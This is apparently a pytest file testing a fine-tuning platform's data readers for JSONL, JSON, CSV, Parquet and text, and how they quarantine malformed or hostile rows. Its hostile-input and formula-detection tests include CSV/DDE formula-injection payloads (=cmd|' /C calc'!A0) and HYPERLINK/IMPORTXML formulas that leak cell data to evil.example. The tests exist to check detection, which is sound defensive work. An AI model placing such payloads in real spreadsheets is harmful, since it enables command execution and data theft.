"""Readers: every format, the record contract, and hostile input (nothing raises, nothing is lost)."""

from __future__ import annotations

import gzip
import json
import re
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from finetune_platform.ingest import QuarantineReason, SourceSettings, ingest_source, ingest_sources
from finetune_platform.schemas import QUARANTINE_COLUMNS, RECORD_COLUMNS

SNIPS = Path("/work/shared/datasets/snips")


def _write(path: Path, data: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")
    return path


def _jsonl(*rows: object) -> str:
    return "".join(json.dumps(r) + "\n" for r in rows)


def test_jsonl_maps_fields_and_numbers_lines_from_one(tmp_path):
    _write(
        tmp_path / "q" / "a.jsonl",
        _jsonl({"query": "where is my parcel", "answer": "On its way.", "intent": "shipping"})
        + "\n"  # a blank line keeps its number but is not a row
        + _jsonl({"query": "cancel please", "intent": "cancellation"}),
    )
    source = SourceSettings(
        name="q",
        path="q/*.jsonl",
        format="jsonl",
        doc_type="query",
        text_field="query",
        response_field="answer",
        label_field="intent",
    )
    result = ingest_source(source, tmp_path)

    assert list(result.records.columns) == RECORD_COLUMNS
    assert list(result.quarantine.columns) == QUARANTINE_COLUMNS
    assert result.records.to_dict("records") == [
        {
            "record_id": "q/q/a.jsonl#1",
            "source": "q",
            "source_file": "q/a.jsonl",
            "source_row": 1,
            "doc_type": "query",
            "text": "where is my parcel",
            "response": "On its way.",
            "label": "shipping",
            "messages": "",
        },
        {
            "record_id": "q/q/a.jsonl#3",
            "source": "q",
            "source_file": "q/a.jsonl",
            "source_row": 3,
            "doc_type": "query",
            "text": "cancel please",
            "response": "",
            "label": "cancellation",
            "messages": "",
        },
    ]
    stats = result.stats["q"]
    assert (stats.files, stats.rows_read, stats.rows_kept, stats.blank_lines) == (1, 2, 2, 1)
    assert stats.rows_missing_field == {"answer": 1}  # a misspelt response_field would show here
    assert result.reconciles()


def test_messages_give_user_text_last_assistant_reply_and_the_json(tmp_path):
    conversation = [
        {"role": "system", "content": "You are Lumen support."},
        {"role": "user", "content": "my cam is offline"},
        {"role": "assistant", "content": "Which model?"},
        {"role": "user", "content": [{"type": "text", "text": "Cam 2"}]},
        {"role": "assistant", "content": "Reconnect it to the 2.4 GHz network."},
    ]
    _write(
        tmp_path / "c" / "chats.jsonl",
        _jsonl(
            {"messages": conversation, "category": "technical_issue"},
            {"messages": [{"role": "customer", "content": "hi"}], "category": "x"},
            {"messages": json.dumps([{"role": "user", "content": "as a JSON string"}])},
            {"messages": [{"role": "user", "content": "  "}, {"role": "assistant", "content": "Hello?"}]},
            {"messages": [{"role": ["user"], "content": "a list is not a role"}]},
            {"messages": [{"role": "user", "content": [{"type": "text", "text": "kept"}, {"type": "text", "text": 7}]}]},
        ),
    )
    source = SourceSettings(
        name="c", path="c/*.jsonl", format="jsonl", doc_type="chat", messages_field="messages", label_field="category"
    )
    result = ingest_source(source, tmp_path)

    first = result.records.iloc[0]
    assert first["text"] == "my cam is offline\nCam 2"
    assert first["response"] == "Reconnect it to the 2.4 GHz network."
    assert json.loads(first["messages"])[3] == {"role": "user", "content": "Cam 2"}
    assert first["label"] == "technical_issue"
    third = result.records.iloc[1]
    assert (third["source_row"], third["text"], third["response"]) == (3, "as a JSON string", "")
    assert result.quarantine[["source_row", "reason_code"]].values.tolist() == [
        [2, "invalid_messages"],
        [4, "empty_text"],
        [5, "invalid_messages"],
        [6, "invalid_messages"],  # a text part without a string would have lost its words silently
    ]
    assert "messages[0].role is 'customer'" in result.quarantine["reason"].iloc[0]
    assert "messages[0].role is ['user']" in result.quarantine["reason"].iloc[2]
    assert "part 1 is a text part with 'text' that is a number; a text part needs a string 'text'" in (
        result.quarantine["reason"].iloc[3]
    )


def test_a_chat_text_holds_only_what_came_before_its_last_reply(tmp_path):
    """A user turn after the reply quotes the answer ("OK, $42.50 to my card"): in the text, a reply example
    would find its completion in its own prompt. A reply before any question (a greeting) answers nothing."""
    _write(
        tmp_path / "c" / "chats.jsonl",
        json.dumps({"messages": [
            {"role": "user", "content": "How much is my refund for order 77?"},
            {"role": "assistant", "content": "Your refund is $42.50."},
            {"role": "user", "content": "OK, $42.50 to my card, thanks!"},
        ]}) + "\n"
        + json.dumps({"messages": [
            {"role": "assistant", "content": "Hi! How can I help?"},
            {"role": "user", "content": "My parcel is late"},
        ]}) + "\n",
    )
    source = SourceSettings(name="c", path="c/*.jsonl", format="jsonl", doc_type="chat", messages_field="messages")
    result = ingest_source(source, tmp_path)
    assert result.records[["text", "response"]].values.tolist() == [
        ["How much is my refund for order 77?", "Your refund is $42.50."],
        ["My parcel is late", ""],
    ]
    assert len(json.loads(result.records["messages"].iloc[0])) == 3  # the conversation itself is kept whole


def test_a_chat_with_a_tool_call_is_quarantined_naming_the_turn(tmp_path):
    _write(
        tmp_path / "c" / "chats.jsonl",
        json.dumps({"messages": [
            {"role": "user", "content": "Where is ORD-9?"},
            {"role": "assistant", "content": "", "tool_calls": [{"id": "1", "type": "function"}]},
            {"role": "tool", "content": "in transit"},
            {"role": "assistant", "content": "It is in transit."},
        ]}) + "\n",
    )
    source = SourceSettings(name="c", path="c/*.jsonl", format="jsonl", doc_type="chat", messages_field="messages")
    result = ingest_source(source, tmp_path)
    assert result.records.empty and result.quarantine["reason_code"].tolist() == ["invalid_messages"]
    assert "messages[1] is a tool call: function-calling data is not supported yet" in result.quarantine["reason"][0]


def test_a_json_file_holding_json_lines_says_so(tmp_path):
    """Hugging Face's Dataset.to_json writes one object per line into a .json file by default."""
    _write(tmp_path / "j" / "data.json", '{"text": "first"}\n{"text": "second"}\n')
    result = ingest_source(SourceSettings(name="j", path="j/*.json", format="json"), tmp_path)
    assert result.records.empty
    assert "it looks like JSON Lines, one object per line (use format 'jsonl' for one object per line)" in (
        result.quarantine["reason"].iloc[0]
    )


def test_json_array_reader(tmp_path):
    _write(
        tmp_path / "j" / "docs.json", json.dumps([{"text": "first"}, "not an object", {"text": "third", "label": 7}])
    )
    _write(tmp_path / "j" / "object.json", json.dumps({"data": [{"text": "nested"}]}))
    _write(tmp_path / "j" / "truncated.json", '[{"text": "a"}, {"text": ')
    source = SourceSettings(name="j", path="j/*.json", format="json", label_field="label")
    result = ingest_source(source, tmp_path)

    assert result.records[["record_id", "text", "label"]].values.tolist() == [
        ["j/j/docs.json#1", "first", ""],
        ["j/j/docs.json#3", "third", "7"],  # integer labels become strings
    ]
    assert result.quarantine[["source_file", "source_row", "reason_code"]].values.tolist() == [
        ["j/docs.json", 2, "not_an_object"],
        ["j/object.json", 0, "not_an_array"],
        ["j/truncated.json", 0, "malformed_json"],
    ]
    # the rows wrapped under a key: format jsonl would read the wrapper as one row without a text, so say where
    # they are instead
    assert result.quarantine["reason"].iloc[1] == (
        "j/object.json (whole file): top level is an object, expected an array of objects (its key 'data' holds an "
        "array of 1 objects, which is read only at the top level: write that array alone to the file, e.g. "
        "jq '.[\"data\"]')."
    )
    assert result.reconciles()


def test_a_json_file_of_one_plain_object_hints_at_json_lines(tmp_path):
    _write(tmp_path / "j" / "one.json", json.dumps({"text": "a single row", "tags": ["x"]}))
    result = ingest_source(SourceSettings(name="j", path="j/*.json", format="json"), tmp_path)
    assert "use format 'jsonl' for one object per line" in result.quarantine["reason"].iloc[0]


def test_a_bad_byte_in_a_json_array_costs_only_its_element(tmp_path):
    """Decoded like CSV (surrogateescape), a JSON array with one undecodable byte keeps every other element; the
    element is quarantined, named by its number and field, the byte shown as \\xNN; a bad byte in a key or a
    CSV header is named the same way instead of breaking the file cache's write."""
    elements = [json.dumps({"text": f"question {i} about my account", "label": "x"}) for i in range(1, 6)]
    raw = ("[" + ",".join(elements) + "]").encode().replace(b"question 3 ", b"question 3 caf\xe9 ")
    raw = raw.replace(b'"label": "x"}]', b'"lab\xe9l": "x"}]')  # the last element's key
    _write(tmp_path / "a.json", raw)
    _write(tmp_path / "b.csv", b"te\xe9xt,label\nhello,x\n")
    for _ in range(2):  # read, then from the cache
        result = ingest_source(
            SourceSettings(name="j", path="a.json", format="json", label_field="label"), tmp_path, cache_dir=tmp_path / "c"
        )
        assert result.records["source_row"].tolist() == [1, 2, 4] and result.reconciles()
        quarantine = result.quarantine
        assert quarantine[["source_row", "reason_code"]].values.tolist() == [[3, "invalid_encoding"], [5, "invalid_encoding"]]
        assert quarantine["reason"].tolist() == [
            "a.json, row 3: field 'text' is not valid utf-8 (a bad byte at character 14).",
            "a.json, row 5: the key 'lab\\xe9l' is not valid utf-8 (a bad byte at character 3).",
        ]
        assert quarantine["excerpt"].iloc[0].startswith('{"text": "question 3 caf\\xe9 about')
    result = ingest_source(SourceSettings(name="c", path="b.csv", format="csv"), tmp_path, cache_dir=tmp_path / "c2")
    assert result.quarantine["reason"].iloc[0].startswith("b.csv, row 1: line 2: has no field 'text' (the file's columns: te\\xe9xt, label)")


def test_csv_reader_quoted_newlines_title_delimiter_and_bom(tmp_path):
    _write(
        tmp_path / "e" / "mail.csv",
        "\ufeffid;subject;body;reply;category\n"
        '1;Charged twice;"Hi,\n\nI was charged twice; please help.\n\nMaria";"Refunded.";billing\n'
        "\n"
        "2;;Where is my order?;;shipping\n",
    )
    source = SourceSettings(
        name="e",
        path="e/*.csv",
        format="csv",
        doc_type="email",
        title_field="subject",
        text_field="body",
        response_field="reply",
        label_field="category",
        csv_delimiter=";",
    )
    result = ingest_source(source, tmp_path)

    assert result.quarantine.empty
    assert result.records[["source_row", "text", "response", "label"]].values.tolist() == [
        [1, "Charged twice\n\nHi,\n\nI was charged twice; please help.\n\nMaria", "Refunded.", "billing"],
        [2, "Where is my order?", "", "shipping"],  # row numbers count data rows, not lines
    ]
    assert result.stats["e"].blank_lines == 1


def test_parquet_reader_reads_mapped_columns_and_nested_messages(tmp_path):
    table = pa.table(
        {
            "ticket_text": ["printer on fire", None, "fine"],
            "resolution": ["Extinguished.", "n/a", None],
            "category": ["technical_issue", "billing", "billing"],
            "unused": [1, 2, 3],
        }
    )
    pq.write_table(table, _write(tmp_path / "n" / "notes.parquet", b""))
    messages = pa.array([[{"role": "user", "content": "hi"}, {"role": "assistant", "content": "hello"}]])
    pq.write_table(pa.table({"messages": messages}), tmp_path / "m.parquet")
    _write(tmp_path / "n" / "zz_corrupt.parquet", b"PAR1 this is not parquet PAR1")

    notes = SourceSettings(
        name="n",
        path="n/*.parquet",
        format="parquet",
        text_field="ticket_text",
        response_field="resolution",
        label_field="category",
    )
    result = ingest_source(notes, tmp_path)
    assert result.records[["source_row", "text", "response", "label"]].values.tolist() == [
        [1, "printer on fire", "Extinguished.", "technical_issue"],
        [3, "fine", "", "billing"],
    ]
    assert result.quarantine[["source_file", "source_row", "reason_code"]].values.tolist() == [
        ["n/notes.parquet", 2, "empty_text"],
        ["n/zz_corrupt.parquet", 0, "unreadable_file"],
    ]

    chats = SourceSettings(name="m", path="m.parquet", format="parquet", messages_field="messages")
    record = ingest_source(chats, tmp_path).records.iloc[0]
    assert (record["text"], record["response"]) == ("hi", "hello")


def test_parquet_without_the_text_column_quarantines_every_row(tmp_path):
    pq.write_table(pa.table({"body": ["a", "b"]}), _write(tmp_path / "p.parquet", b""))
    result = ingest_source(SourceSettings(name="p", path="p.parquet", format="parquet"), tmp_path)
    assert result.records.empty
    assert result.quarantine["reason_code"].tolist() == ["missing_field", "missing_field"]
    assert "has no field 'text' (the file's columns: body)" in result.quarantine["reason"].iloc[0]
    assert result.reconciles()


def test_a_damaged_parquet_row_group_costs_exactly_its_rows_and_reading_goes_on(tmp_path):
    import io

    buffer = io.BytesIO()
    table = pa.table({"text": [f"row {i}" for i in range(1, 301)], "label": [str(i % 3) for i in range(300)]})
    pq.write_table(table, buffer, row_group_size=100)
    raw = bytearray(buffer.getvalue())
    column = pq.ParquetFile(io.BytesIO(bytes(raw))).metadata.row_group(1).column(0)
    start = column.dictionary_page_offset or column.data_page_offset
    raw[start : start + 12] = b"\xff" * 12  # the second row group's first page header
    _write(tmp_path / "a.parquet", bytes(raw))
    result = ingest_source(SourceSettings(name="p", path="a.parquet", format="parquet", label_field="label"), tmp_path)
    stats = result.stats["p"]
    assert (stats.rows_read, stats.rows_kept, stats.rows_quarantined) == (300, 200, 100)  # the footer's 300 rows
    assert result.records["source_row"].tolist() == [*range(1, 101), *range(201, 301)]  # row group 3 is read
    assert result.records["text"].iloc[100] == "row 201"
    assert result.quarantine["source_row"].tolist() == list(range(101, 201))
    assert set(result.quarantine["reason_code"]) == {"unreadable_file"}
    assert result.quarantine["reason"].iloc[0].startswith(
        "a.parquet, row 101: row group 2 of 3 (rows 101-200) could not be decoded ("
    )
    assert result.quarantine["reason"].map(str.isprintable).all() and result.reconciles()


def test_text_reader_one_record_per_file(tmp_path):
    _write(tmp_path / "kb" / "returns.md", "# Returns\n\n- within 30 days\n- free label\n")
    _write(tmp_path / "kb" / "sub" / "warranty.txt", "Two years on all devices.")
    _write(tmp_path / "kb" / "blank.md", "  \n")
    _write(tmp_path / "kb" / "latin1.txt", "caf\xe9".encode("latin-1"))
    source = SourceSettings(name="kb", path="kb/**/*.*", format="text")
    result = ingest_source(source, tmp_path)

    assert result.records[["record_id", "text"]].values.tolist() == [
        ["kb/kb/returns.md#1", "# Returns\n\n- within 30 days\n- free label\n"],
        ["kb/kb/sub/warranty.txt#1", "Two years on all devices."],
    ]
    assert result.quarantine[["source_file", "reason_code"]].values.tolist() == [["kb/latin1.txt", "invalid_encoding"]]
    assert (result.stats["kb"].files, result.stats["kb"].empty_files) == (4, 1)
    latin = SourceSettings(name="kb", path="kb/latin1.txt", format="text", encoding="latin-1")
    assert ingest_source(latin, tmp_path).records["text"].tolist() == ["café"]


def test_hostile_input_is_kept_or_quarantined_with_exact_reasons(tmp_path):
    raw = tmp_path / "raw"
    huge = b'{"text": "' + b"a" * 3_000_000 + b'"}\n'  # over the 1 MB default cap
    lines = [
        _jsonl({"text": "My order ORD-123456 has not arrived", "label": "shipping"}).encode(),  # 1 kept
        _jsonl({"text": "- my order is late", "label": "shipping"}).encode(),  # 2 kept: a dash is not a formula
        b"   \n",  # 3 blank
        b'{"text": "the export stopped in the mid\n',  # 4 truncated JSON
        b'{"text": "caf\xe9 au lait"}\n',  # 5 invalid UTF-8
        _jsonl({"label": "billing"}).encode(),  # 6 no text field
        _jsonl({"text": "", "label": "billing"}).encode(),  # 7 empty text
        _jsonl({"text": 42}).encode(),  # 8 number instead of text
        _jsonl(["not", "an", "object"]).encode(),  # 9 a JSON array
        _jsonl({"text": '=HYPERLINK("http://evil.example","click me")'}).encode(),  # 10 formula
        huge,  # 11 oversized
        _jsonl({"text": "after the huge line", "label": 3}).encode(),  # 12 kept, label "3"
        _jsonl({"text": "ok", "label": ["a"]}).encode(),  # 13 label of the wrong type
        b'{"text": "lone surrogate \\ud800 here"}\n',  # 14 unpaired surrogate escaped in JSON
    ]
    _write(raw / "h" / "tickets.jsonl", b"".join(lines))
    _write(raw / "h" / "empty.jsonl", b"")
    _write(raw / "h" / "image.jsonl", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")
    _write(
        raw / "h" / "tickets.csv",
        b"text,category\n"
        b'"Hello, my invoice is wrong\nsecond line",billing\n'  # 1 kept (quoted newline)
        b"=cmd|' /C calc'!A0,billing\n"  # 2 DDE formula
        b"@SUM(1+1)*cmd|' /C calc'!A0,billing\n"  # 3 formula
        b"- my order is missing,shipping\n"  # 4 kept
        b"+1 415 555 0132 is my number,account_access\n"  # 5 kept: a phone number is not a formula
        b"a,b,c\n"  # 6 wrong column count
        b",billing\n"  # 7 empty text
        b"caf\xe9 au lait,billing\n"  # 8 invalid UTF-8
        b'"broken quote,billing\n'  # 9 an opening quote never closed
        b"fine after the broken row,billing\n"  # 10 kept
        b'"quoted, with a comma",billing\n',  # 11 kept
    )
    _write(raw / "h" / "header_only.csv", "text,category\n")
    sources = [
        SourceSettings(name="hostile-jsonl", path="h/*.jsonl", format="jsonl", label_field="label"),
        SourceSettings(name="hostile-csv", path="h/*.csv", format="csv", label_field="category"),
    ]
    result = ingest_sources(sources, raw)

    jsonl, csv_ = result.stats["hostile-jsonl"], result.stats["hostile-csv"]
    assert jsonl.quarantined_by_reason == {
        "binary_file": 1,
        "malformed_json": 1,
        "invalid_encoding": 2,
        "missing_field": 1,
        "empty_text": 1,
        "wrong_type": 2,
        "not_an_object": 1,
        "formula_injection": 1,
        "oversized": 1,
    }
    assert (jsonl.files, jsonl.empty_files, jsonl.blank_lines, jsonl.rows_read, jsonl.rows_kept) == (3, 1, 1, 14, 3)
    assert csv_.quarantined_by_reason == {
        "formula_injection": 2,
        "malformed_csv": 2,
        "empty_text": 1,
        "invalid_encoding": 1,
    }
    assert (csv_.files, csv_.empty_files, csv_.rows_read, csv_.rows_kept) == (2, 1, 11, 5)
    assert result.reconciles() and jsonl.reconciles() and csv_.reconciles()

    kept = result.records.set_index("record_id")["text"].to_dict()
    assert list(kept) == [
        "hostile-jsonl/h/tickets.jsonl#1",
        "hostile-jsonl/h/tickets.jsonl#2",
        "hostile-jsonl/h/tickets.jsonl#12",
        "hostile-csv/h/tickets.csv#1",
        "hostile-csv/h/tickets.csv#4",
        "hostile-csv/h/tickets.csv#5",
        "hostile-csv/h/tickets.csv#10",
        "hostile-csv/h/tickets.csv#11",
    ]
    assert kept["hostile-csv/h/tickets.csv#11"] == "quoted, with a comma"
    assert result.records["label"].tolist()[2] == "3"

    quarantine = result.quarantine.set_index(["source_file", "source_row"])
    assert quarantine.loc[("h/image.jsonl", 0), "reason_code"] == QuarantineReason.BINARY_FILE
    assert quarantine.loc[("h/tickets.jsonl", 11), "reason"] == (
        "h/tickets.jsonl, row 11: line is 3,000,013 bytes, over max_record_bytes=1,000,000."
    )
    assert "Unterminated string" in quarantine.loc[("h/tickets.jsonl", 4), "reason"]
    assert "unpaired surrogate" in quarantine.loc[("h/tickets.jsonl", 14), "reason"]
    assert quarantine.loc[("h/tickets.csv", 6), "reason"].startswith(
        "h/tickets.csv, row 6: line 8: 3 columns, the header has 2"
    )
    assert (
        "lines 11-13: a quoted field opened on line 11 is not closed" in quarantine.loc[("h/tickets.csv", 9), "reason"]
    )
    assert quarantine.loc[("h/tickets.csv", 2), "reason_code"] == "formula_injection"
    # excerpts are short, printable and free of NULs and unpaired surrogates
    assert result.quarantine["excerpt"].str.len().max() <= 200
    assert not result.quarantine["excerpt"].str.contains("\x00").any()
    assert quarantine.loc[("h/tickets.jsonl", 5), "excerpt"].startswith('{"text": "caf\\xe9')
    pd.DataFrame(result.quarantine).to_parquet(tmp_path / "q.parquet")  # writable as is (no bad strings)


def test_csv_row_larger_than_the_cap_is_oversized_and_reading_goes_on(tmp_path):
    big, half = "x" * 5_000, "y" * 1_500
    _write(
        tmp_path / "big.csv",
        f'text,label\nsmall,a\n{big},b\nafter,c\n"{big}\n{big}",d\n"{half}\n{half}",e\nlast,f\n',
    )
    source = SourceSettings(name="big", path="big.csv", format="csv", label_field="label", max_record_bytes=2_048)
    result = ingest_source(source, tmp_path)
    assert result.records[["source_row", "text", "label"]].values.tolist() == [
        [1, "small", "a"],
        [3, "after", "c"],
        [6, "last", "f"],
    ]
    assert result.quarantine[["source_row", "reason_code"]].values.tolist() == [
        [2, "oversized"],  # one long line
        [4, "oversized"],  # a quoted field over several lines, each over the cap
        [5, "oversized"],  # each line under the cap, together over it: the row still ends where it should
    ]
    assert result.quarantine["reason"].iloc[2] == "big.csv, row 5: lines 7-8: 3,006 bytes, over max_record_bytes=2,048."
    assert result.reconciles()


def _outcome(result, name: str) -> tuple[list, list]:
    kept = result.records[["source_row", "text", "label"]].values.tolist()
    quarantined = result.quarantine[["source_row", "reason_code"]].values.tolist()
    assert result.reconciles(), result.reconciliation_problems()
    return kept, quarantined


def test_an_integer_too_long_for_python_quarantines_its_row_not_the_run(tmp_path):
    huge = "9" * 5_000  # past sys.int_max_str_digits: json.loads raises ValueError, not JSONDecodeError
    _write(tmp_path / "a.jsonl", '{"text": "ok"}\n{"text": "x", "n": ' + huge + '}\n{"text": "after"}\n')
    _write(tmp_path / "b.json", '[{"text": "x", "n": ' + huge + '}]')
    _write(tmp_path / "c.csv", 'messages\n"[{""role"": ""user"", ""content"": ""hi"", ""n"": ' + huge + '}]"\n')
    kept, quarantined = _outcome(ingest_source(SourceSettings(name="a", path="a.jsonl", format="jsonl"), tmp_path), "a")
    assert [k[:2] for k in kept] == [[1, "ok"], [3, "after"]] and quarantined == [[2, "malformed_json"]]
    kept, quarantined = _outcome(ingest_source(SourceSettings(name="b", path="b.json", format="json"), tmp_path), "b")
    assert kept == [] and quarantined == [[0, "malformed_json"]]
    source = SourceSettings(name="c", path="c.csv", format="csv", messages_field="messages")
    kept, quarantined = _outcome(ingest_source(source, tmp_path), "c")
    assert kept == [] and quarantined == [[1, "invalid_messages"]]


def test_an_element_too_deep_or_too_large_to_quote_gets_an_excerpt_that_says_so():
    """The parser took it (its depth limit depends on the stack left), the excerpt writer cannot."""
    from finetune_platform.ingest.readers import _excerpt

    deep: list = []
    for _ in range(100_000):
        deep = [deep]
    assert "cannot be written back" in _excerpt(deep, "utf-8")
    assert "cannot be written back" in _excerpt({"n": 10**5000}, "utf-8")
    assert _excerpt({"text": "fine"}, "utf-8") == '{"text": "fine"}'


def test_parquet_cells_python_cannot_hold_quarantine_their_rows(tmp_path):
    table = pa.table({
        "text": pa.array([b"fine", b"bad \xff byte", b"also fine"], type=pa.binary()).cast(pa.string(), safe=False),
        "label": ["a", "b", "c"],
    })
    pq.write_table(table, tmp_path / "enc.parquet")
    stamps = pa.array([0, 2**62, 0], type=pa.timestamp("ns")).cast(pa.timestamp("s"), safe=False)
    pq.write_table(pa.table({"text": ["one", "two", "three"], "label": stamps}), tmp_path / "time.parquet")
    source = SourceSettings(name="p", path="enc.parquet", format="parquet", label_field="label")
    kept, quarantined = _outcome(ingest_source(source, tmp_path), "p")
    assert kept == [[1, "fine", "a"], [3, "also fine", "c"]] and quarantined == [[2, "invalid_encoding"]]
    source = SourceSettings(name="t", path="time.parquet", format="parquet", label_field="label")
    result = ingest_source(source, tmp_path)
    kept, quarantined = _outcome(result, "t")
    assert [2, "wrong_type"] in quarantined and len(kept) + len(quarantined) == 3


def test_a_file_reached_through_several_links_is_read_once_and_a_broken_link_is_reported(tmp_path):
    raw = tmp_path / "raw"
    _write(raw / "a.jsonl", _jsonl({"text": "one"}, {"text": "two"}))
    (raw / "sub").mkdir()
    (raw / "sub" / "up").symlink_to("..")  # a folder loop under **
    (raw / "link.jsonl").symlink_to("a.jsonl")
    (raw / "dangling.jsonl").symlink_to("nowhere.jsonl")
    (raw / "loop1.jsonl").symlink_to("loop2.jsonl")
    (raw / "loop2.jsonl").symlink_to("loop1.jsonl")
    result = ingest_source(SourceSettings(name="s", path="**/*.jsonl", format="jsonl"), raw)
    kept, quarantined = _outcome(result, "s")
    assert result.records["record_id"].tolist() == ["s/a.jsonl#1", "s/a.jsonl#2"]
    assert quarantined == [[0, "unreadable_file"]] * 3  # the dangling link and the two links of the loop


def test_csv_lone_carriage_returns_end_lines(tmp_path):
    _write(tmp_path / "mac.csv", b"text,label\ra,x\rb,y\r")
    _write(tmp_path / "mixed.csv", b'text,label\nfoo,a\rbar,b\n"multi\rline",c\r\nlast,d')
    kept, _ = _outcome(ingest_source(SourceSettings(name="m", path="mac.csv", format="csv", label_field="label"), tmp_path), "m")
    assert kept == [[1, "a", "x"], [2, "b", "y"]]
    source = SourceSettings(name="x", path="mixed.csv", format="csv", label_field="label")
    kept, quarantined = _outcome(ingest_source(source, tmp_path), "x")
    assert kept == [[1, "foo", "a"], [2, "bar", "b"], [3, "multi\rline", "c"], [4, "last", "d"]] and quarantined == []


def test_jsonl_lone_carriage_returns_end_lines_as_in_csv(tmp_path):
    _write(tmp_path / "mac.jsonl", b'{"text": "first"}\r{"text": "second"}\r\r{"text": "third"}\n')
    big = b'{"text": "' + b"x" * 3_000 + b'"}'
    _write(tmp_path / "mixed.jsonl", b'{"text": "a"}\r\n' + big + b'\r{"text": "b"}\r{"text":\r"c"}\n{"text": "d"}')
    kept, quarantined = _outcome(ingest_source(SourceSettings(name="m", path="mac.jsonl", format="jsonl"), tmp_path), "m")
    assert kept == [[1, "first", ""], [2, "second", ""], [4, "third", ""]] and quarantined == []
    source = SourceSettings(name="x", path="mixed.jsonl", format="jsonl", max_record_bytes=2_048)
    result = ingest_source(source, tmp_path)
    kept, quarantined = _outcome(result, "x")
    assert kept == [[1, "a", ""], [3, "b", ""], [6, "d", ""]]  # the over-long line ends at its lone CR
    assert quarantined == [[2, "oversized"], [4, "malformed_json"], [5, "malformed_json"]]
    reasons = result.quarantine["reason"].tolist()
    assert reasons[0] == "mixed.jsonl, row 2: line is 3,013 bytes, over max_record_bytes=2,048."
    assert reasons[1].endswith(  # a CR between the tokens of one object: the line end is named
        "(a truncated or hand-edited line?); the file ends lines with a lone CR (classic Mac), which is read as a "
        "line end."
    )


@pytest.mark.parametrize("block", [1, 2, 3, 5, 64])
def test_jsonl_lines_are_the_same_whatever_the_blocks_they_are_read_in(monkeypatch, block):
    import io
    import re

    from finetune_platform.ingest import readers

    data = b"ab\r\ncd\ref\n\r\r\ngh\rij\n\nklmnopqrstu\r\nvw"
    monkeypatch.setattr(readers, "_LINE_BLOCK", block)
    lines = list(readers._physical_lines(io.BytesIO(data), limit=1_024))
    expected = [m.group() for m in re.finditer(rb"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+$", data)]
    assert [line for line, _, _ in lines] == expected
    assert [length for _, length, _ in lines] == [len(e) for e in expected]
    long = list(readers._physical_lines(io.BytesIO(b"x" * 100 + b"\r\nyy"), limit=10))
    assert long == [(b"x" * 12, 102, b"\r\n"), (b"yy", 2, b"")]  # held up to the limit and a line end


def test_csv_repeated_header_names_only_matter_when_the_source_reads_them(tmp_path):
    _write(tmp_path / "notes.csv", "text,notes,notes,label\nq1,n,n,a\nq2,n,n,b\n")
    _write(tmp_path / "texts.csv", "text,text,label\nq1,z,a\nq2,z,b\n")
    source = SourceSettings(name="n", path="notes.csv", format="csv", label_field="label")
    kept, quarantined = _outcome(ingest_source(source, tmp_path), "n")
    assert kept == [[1, "q1", "a"], [2, "q2", "b"]] and quarantined == []
    source = SourceSettings(name="t", path="texts.csv", format="csv", label_field="label")
    result = ingest_source(source, tmp_path)
    kept, quarantined = _outcome(result, "t")
    assert kept == [] and quarantined == [[1, "malformed_csv"], [2, "malformed_csv"]]  # every row counted
    assert "repeats the column(s) ['text']" in result.quarantine["reason"].iloc[0]


def test_csv_files_concatenated_quarantine_the_repeated_header_row(tmp_path):
    first = "text,category\nMy parcel never arrived,shipping\n"
    second = "\ufefftext , category\r\nI was charged twice,billing\r\n"  # Excel's export: a BOM, CRLF
    _write(tmp_path / "all.csv", first + second + "text,shipping\n")  # a row whose text is "text" stays a row
    result = ingest_source(SourceSettings(name="c", path="all.csv", format="csv", label_field="category"), tmp_path)
    kept, quarantined = _outcome(result, "c")
    assert kept == [[1, "My parcel never arrived", "shipping"], [3, "I was charged twice", "billing"], [4, "text", "shipping"]]
    assert quarantined == [[2, "malformed_csv"]]
    assert result.quarantine["reason"].iloc[0] == (
        "all.csv, row 2: line 3: repeated header row (the cells are the header's; two CSV files joined into one?)."
    )
    assert result.reconciles()


def test_csv_rows_of_empty_cells_are_rows_not_blank_lines(tmp_path):
    _write(tmp_path / "e.csv", 'text,label\nq1,a\n,\n,,\n"  ",""\n\n   \nq2,b\n')
    result = ingest_source(SourceSettings(name="e", path="e.csv", format="csv", label_field="label"), tmp_path)
    kept, quarantined = _outcome(result, "e")
    assert kept == [[1, "q1", "a"], [5, "q2", "b"]]
    assert quarantined == [[2, "empty_text"], [3, "malformed_csv"], [4, "empty_text"]]
    assert result.stats["e"].blank_lines == 2


def test_whole_number_float_labels_are_labels_and_nan_is_no_label(tmp_path):
    frame = pd.DataFrame({"text": ["a", "b", "c"], "label": [3, None, 5]})  # pandas makes the column float
    frame.to_parquet(tmp_path / "l.parquet")
    _write(tmp_path / "l.jsonl", _jsonl({"text": "a", "label": 3.0}, {"text": "b", "label": 2.5}))
    source = SourceSettings(name="p", path="l.parquet", format="parquet", label_field="label")
    kept, quarantined = _outcome(ingest_source(source, tmp_path), "p")
    assert kept == [[1, "a", "3"], [2, "b", ""], [3, "c", "5"]] and quarantined == []
    source = SourceSettings(name="j", path="l.jsonl", format="jsonl", label_field="label")
    kept, quarantined = _outcome(ingest_source(source, tmp_path), "j")
    assert kept == [[1, "a", "3"]] and quarantined == [[2, "wrong_type"]]  # 2.5 is no category


def test_formula_detection_keeps_ordinary_text():
    from finetune_platform.ingest.readers import is_spreadsheet_formula

    formulas = [
        "=1+1",
        "=A1",
        "=SUM(A1:A3)",
        '+HYPERLINK("x")',
        "-cmd|' /C calc'!A0",
        "@SUM(1)",
        " =B2*2",
        "\t=cmd|x!A",
    ]
    ordinary = [
        "- my order",
        "-5 degrees",
        "+1 (415) 555-0132",
        "@team can you help",
        "= Heading =",
        "=)",
        "--- forwarded ---",
        "- see (attached)",
        "+44 20 7946 0958",
    ]
    assert [s for s in formulas if not is_spreadsheet_formula(s)] == []
    assert [s for s in ordinary if is_spreadsheet_formula(s)] == []


def test_formula_rule_catches_owasp_payloads_and_keeps_support_text_that_looks_alike(tmp_path):
    from finetune_platform.ingest.readers import is_spreadsheet_formula

    payloads = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click here")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
